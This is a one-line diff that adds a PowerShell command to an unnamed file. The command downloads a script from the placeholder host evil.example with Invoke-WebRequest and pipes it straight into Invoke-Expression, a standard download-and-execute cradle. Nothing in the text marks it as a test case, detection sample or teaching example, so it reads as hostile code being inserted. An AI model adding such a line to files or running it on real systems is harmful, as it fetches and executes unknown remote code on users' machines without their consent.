@@ -1,0 +1,1 @@
+iwr https://evil.example/a.ps1 -UseBasicParsing | iex
